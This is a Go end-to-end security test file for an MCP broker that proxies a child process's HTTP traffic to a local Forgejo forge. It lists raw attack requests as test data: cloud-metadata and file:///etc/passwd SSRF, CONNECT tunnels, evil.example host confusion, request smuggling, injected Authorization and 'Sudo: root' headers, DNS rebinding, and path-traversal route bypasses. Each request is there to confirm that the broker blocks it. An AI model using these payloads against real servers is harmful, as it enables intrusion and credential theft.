package attack

import (
	"context"
	_ "embed"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/fjmcp/fjmcp-broker/internal/test/e2e"
	"github.com/fjmcp/fjmcp-broker/internal/test/loginclient"
)

const (
	forgeURL  = e2e.ForgeURL
	forgeHost = "forgejo.localhost:3000"
)

// request is what a child sends to its proxy; headers are whole lines.
func request(method, path, body string, headers ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: attack\r\nConnection: close\r\n", method, forgeURL, path, forgeHost)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if body != "" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	return b.String() + "\r\n" + body
}

// send has a child send bytes to its proxy. Where that refuses, the broker answers in the
// child's place.
func (w *world) send(c *loginclient.Client, raw string) (in incoming) {
	ctx, cancel := context.WithTimeout(w.t.Context(), 2*time.Minute)
	defer cancel()
	text, err := callTool(ctx, c, toolSend, outgoing{Raw: base64.StdEncoding.EncodeToString([]byte(raw))})
	var instead toolError
	if errors.As(err, &instead) {
		return incoming{Status: http.StatusForbidden, Raw: []byte(instead), Err: first(string(instead))}
	}
	w.must(err)
	w.must(json.Unmarshal([]byte(text), &in))
	return in
}

// sent sends bytes as alice's child and returns what came back and what arrived.
func (w *world) sent(raw string) (incoming, []arrival) {
	mark := w.forge.mark()
	in := w.send(w.alice, raw)
	return in, w.forge.since(mark)
}

// stopped wants nothing of what alice's child sends to arrive at the forge.
func (w *world) stopped(raw string) result {
	in, arrived := w.sent(raw)
	if len(arrived) > 0 {
		return verdict(false, "%s %s at the forge", arrived[0].Method, arrived[0].URI)
	}
	return verdict(in.Status >= 400 || in.Status == 0, "%d %s", in.Status, in.Err)
}

// stray are ways to elsewhere, or past the rules.
var stray = map[string]string{
	"another host, in absolute form":  "GET http://127.0.0.1:8080/healthz HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n",
	"the metadata service":            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
	"another port of the forge":       "GET http://forgejo.localhost:3001/ HTTP/1.1\r\nHost: forgejo.localhost:3001\r\n\r\n",
	"another scheme":                  "GET https://forgejo.localhost:3000/api/v1/user HTTP/1.1\r\nHost: forgejo.localhost:3000\r\n\r\n",
	"a name that begins as the forge": "GET http://forgejo.localhost:3000.evil.example/api/v1/user HTTP/1.1\r\nHost: x\r\n\r\n",
	"a host behind a user name":       "GET http://forgejo.localhost:3000@evil.example/api/v1/user HTTP/1.1\r\nHost: evil.example\r\n\r\n",
	"the forge's name with a dot":     "GET http://forgejo.localhost.:3000/api/v1/user HTTP/1.1\r\nHost: forgejo.localhost.:3000\r\n\r\n",
	"the forge's address by number":   "GET http://127.0.0.1:3000/api/v1/user HTTP/1.1\r\nHost: 127.0.0.1:3000\r\n\r\n",
	"no host, in origin form":         "GET /api/v1/user HTTP/1.1\r\nHost: forgejo.localhost:3000\r\n\r\n",
	"an old request without a host":   "GET /api/v1/user HTTP/1.0\r\n\r\n",
	"a tunnel to the forge":           "CONNECT forgejo.localhost:3000 HTTP/1.1\r\nHost: forgejo.localhost:3000\r\n\r\nGET /api/v1/user HTTP/1.1\r\nHost: forgejo.localhost:3000\r\n\r\n",
	"a tunnel elsewhere":              "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n",
	"a tunnel to a unix socket":       "CONNECT /run/fjmcp/admin.sock:0 HTTP/1.1\r\nHost: x\r\n\r\n",
	"a file":                          "GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
	"another protocol's greeting":     "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
	"a request split by a bare return": "GET " + forgeURL + "/api/v1/repos/attack/a HTTP/1.1\r\nHost: " + forgeHost +
		"\r\nX-A: b\rGET /smuggled HTTP/1.1\r\n\r\n",
	"two lengths":                  "POST " + forgeURL + repository + "a/issues HTTP/1.1\r\nHost: " + forgeHost + "\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
	"a negative length":            "POST " + forgeURL + repository + "a/issues HTTP/1.1\r\nHost: " + forgeHost + "\r\nContent-Length: -1\r\n\r\n{}",
	"a folded header":              "GET " + forgeURL + repository + "a HTTP/1.1\r\nHost: " + forgeHost + "\r\nX-A: b\r\n Sudo: root\r\nTransfer-Encoding: xchunked\r\n\r\n",
	"an unknown transfer coding":   "POST " + forgeURL + repository + "a/issues HTTP/1.1\r\nHost: " + forgeHost + "\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
	"two hosts":                    "GET " + forgeURL + repository + "a HTTP/1.1\r\nHost: " + forgeHost + "\r\nHost: evil.example\r\n\r\n",
	"a header's name with a space": "GET " + forgeURL + repository + "a HTTP/1.1\r\nHost: " + forgeHost + "\r\nSudo : root\r\n\r\n",
	"a header's value with a null": "GET " + forgeURL + repository + "a HTTP/1.1\r\nHost: " + forgeHost + "\r\nUser-Agent: a\x00b\r\n\r\n",
	"a path with a line break":     "GET " + forgeURL + repository + "a\r\nSudo:root HTTP/1.1\r\nHost: " + forgeHost + "\r\n\r\n",
	"a method that is no word":     "G@T " + forgeURL + repository + "a HTTP/1.1\r\nHost: " + forgeHost + "\r\n\r\n",
	"an upgrade to a websocket":    "GET " + forgeURL + "/user/events HTTP/1.1\r\nHost: " + forgeHost + "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
	"an upgrade to clear text HTTP/2": "GET " + forgeURL + "/-/ HTTP/1.1\r\nHost: " + forgeHost +
		"\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
}

func childEgress() (all []attack) {
	for _, name := range sorted(stray) {
		raw := stray[name]
		all = append(all, attack{who: "C", name: "send to " + name, right: "nothing at the forge or elsewhere", out: func(w *world) result { return w.stopped(raw) }})
	}
	return append(all,
		attack{who: "C", name: "name another host beside the forge's URL", right: "the forge's name at the forge", out: func(w *world) result {
			in, arrived := w.sent("GET " + forgeURL + repository + "a HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
			for _, a := range arrived {
				if a.Host != forgeHost {
					return verdict(false, "Host: %s", a.Host)
				}
			}
			return verdict(true, "%d, and the forge's own", in.Status)
		}},
		attack{who: "C", name: "smuggle a second request behind a length and a coding", right: "one request at the forge", out: func(w *world) result {
			smuggled := "GET /api/v1/admin/smuggled HTTP/1.1\r\nHost: " + forgeHost + "\r\n\r\n"
			_, arrived := w.sent(fmt.Sprintf("POST %s%sa/issues HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n%s",
				forgeURL, repository, forgeHost, 12+len(smuggled), smuggled))
			for _, a := range arrived {
				if strings.Contains(a.URI+a.Body, "smuggled") {
					return verdict(false, "%s %s", a.Method, a.URI)
				}
			}
			return verdict(true, "%d of the first", len(arrived))
		}},
		attack{who: "C", name: "have its token dropped as a header of the connection", right: "alice's request or none", out: func(w *world) result {
			_, arrived := w.sent("GET " + forgeURL + repository + "a HTTP/1.1\r\nHost: " + forgeHost + "\r\nConnection: close, Authorization\r\nAuthorization: token x\r\n\r\n")
			for _, a := range arrived {
				if !w.bearsToken(a) {
					return result{false, "without the user's token"}
				}
			}
			return verdict(true, "%d with the user's token", len(arrived))
		}},
		attack{who: "C", name: "act with an Authorization of its own", right: "the user's token", out: func(w *world) result {
			for _, h := range []string{"Authorization: Basic cm9vdDpyb290", "authorization: token 0123456789", "AUTHORIZATION: Bearer x\r\nAuthorization: Basic cm9vdDpyb290"} {
				_, arrived := w.sent(request("GET", repository+"a", "", h))
				for _, a := range arrived {
					if !w.bearsToken(a) || len(a.Header["Authorization"]) != 1 {
						return verdict(false, "%d such headers", len(a.Header["Authorization"]))
					}
				}
			}
			return result{true, "the user's token alone"}
		}},
		attack{who: "C", name: "have the forge send it elsewhere", right: "nobody comes with a token", out: func(w *world) result {
			l, err := w.s.C.Listen(w.t.Context(), "tcp", "elsewhere.localhost:3333")
			w.must(err)
			visitors := make(chan string, 100)
			server := &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { visitors <- r.Header.Get("Authorization") })}
			go server.Serve(l)
			defer server.Close()
			in, _ := w.sent(request("GET", repository+"elsewhere", ""))
			second, _ := w.sent("GET http://elsewhere.localhost:3333/stolen HTTP/1.1\r\nHost: elsewhere.localhost:3333\r\nConnection: close\r\n\r\n")
			return verdict(len(visitors) == 0 && second.Status >= 400, "%d visitors; %d and then %d", len(visitors), in.Status, second.Status)
		}},
		attack{who: "C", name: "have the forge's name lead elsewhere (DNS rebinding)", right: "a name below localhost stays on this machine", out: func(w *world) result {
			w.run("ip address add 10.9.9.9/32 dev lo")
			l, err := w.s.C.Listen(w.t.Context(), "tcp", "10.9.9.9:3000")
			w.must(err)
			defer l.Close()
			visitors := make(chan net.Conn, 10)
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					visitors <- c
				}
			}()
			w.run("cp /etc/hosts /etc/hosts.kept; echo '10.9.9.9 forgejo.localhost' >>/etc/hosts")
			defer w.run("mv /etc/hosts.kept /etc/hosts")
			again, err := w.alice.Again(w.t.Context()) // with connections of its own
			w.must(err)
			defer again.Close()
			who := w.whoami(again)
			return verdict(len(visitors) == 0 && strings.Contains(who, "alice"), "%d went elsewhere; served as %s", len(visitors), who)
		}},
	)
}

// bearsToken tells whether a request carries a token that the forge has issued.
func (w *world) bearsToken(a arrival) bool {
	token, ok := strings.CutPrefix(a.Header.Get("Authorization"), "token ")
	for _, t := range w.issued() {
		if ok && token == t {
			return true
		}
	}
	return false
}

// lasting are routes of Forgejo's API that leave access, credentials or code behind which
// outlive a session, and that no tool of forgejo-mcp needs: hooks besides, which do.
//
//go:embed testdata/lasting.txt
var lasting string

// wild are other addresses that no session has business at.
var wild = []string{
	"POST /attack/x.git/info/lfs/objects/batch", "POST /attack/x.git/git-upload-pack", "POST /attack/x.git/git-receive-pack", "GET /attack/x.git/info/refs?service=git-receive-pack",
	"PUT /attack/x.git/info/lfs/objects/0/0", "TRACE /api/v1/user", "TRACK /api/v1/user", "PROPFIND /api/v1/user", "OPTIONS /api/v1/user",
	"GET /user/settings", "POST /user/settings/applications", "GET /login/oauth/authorize", "POST /login/oauth/access_token", "POST /login/oauth/introspect", "GET /login/oauth/userinfo",
	"GET /admin", "GET /-/admin/config", "GET /metrics", "GET /api/healthz", "GET /api/internal/hook/pre-receive/a/b", "GET /api/packages/attack/npm/x", "PUT /api/packages/attack/generic/x/1/f",
	"GET /v2/", "GET /v2/token", "GET /api/actions_pipeline/x", "POST /api/actions/runner.v1.RunnerService/Register", "POST /attack/x/settings/hooks/forgejo/new", "GET /user/events",
	"GET /api/v1/../../user/settings", "GET /api/v1/repos/../user/keys", "POST /api/v1/user/keys/", "POST /api/v1//user/keys", "POST //api/v1/user/keys", "POST /api/v1/%75ser/keys", "POST /api/v1/user%2fkeys",
	"POST /api/v1/repos/attack/x/issues/../hooks", "POST /api/v1/repos/attack/x/issues/%2e%2e/hooks", "POST /api/v1/repos/attack/x/issues%2f..%2fhooks", "POST /api/v1/repos/attack/x/./keys",
	"POST /api/v1/repos/attack/x/keys;a", "POST /API/V1/user/keys", "POST /api/v1/User/Keys", `POST /api/v1/user\keys`, "POST /api/v1/user/keys?a=/api/v1/version", "POST /api/v1/user/keys%00",
	"POST /api/v1/user/keys%20", "POST /api/v1/user/keys.json", "POST /api/v1/repos/attack/x/issues/..%252fhooks", "GET /api/v1/admin/users", "GET /api/v1/admin/hooks", "GET /api/v1/users/alice/tokens",
}

func childRoutes() (all []attack) {
	for line := range strings.Lines(lasting) {
		route := strings.TrimSpace(line)
		method, path, _ := strings.Cut(route, " ")
		path = strings.NewReplacer("{owner}", "attack", "{repo}", "x", "{org}", "o", "{username}", "alice", "{id}", "1").Replace(path)
		path = strings.NewReplacer("{", "", "}", "").Replace(path)
		all = append(all, closedRoute("leave access behind: "+route, method, path))
	}
	for _, route := range wild {
		method, path, _ := strings.Cut(route, " ")
		all = append(all, closedRoute("ask for "+route, method, path))
	}
	return all
}

func closedRoute(name, method, path string) attack {
	return attack{who: "C", name: name, right: "not at the forge", out: func(w *world) result {
		if method == "GET" || method == "TRACE" {
			return w.stopped(request(method, path, ""))
		}
		return w.stopped(request(method, path, "{}", "Content-Type: application/json"))
	}}
}

// base64Shifts are the base64 of a secret at each of the three offsets, without what
// depends on its neighbours.
func base64Shifts(secret string) (all []string) {
	for offset := range 3 {
		text := base64.StdEncoding.EncodeToString([]byte("xyz"[:offset] + secret))
		all = append(all, text[4*((offset+2)/3):len(text)-4])
	}
	return all
}
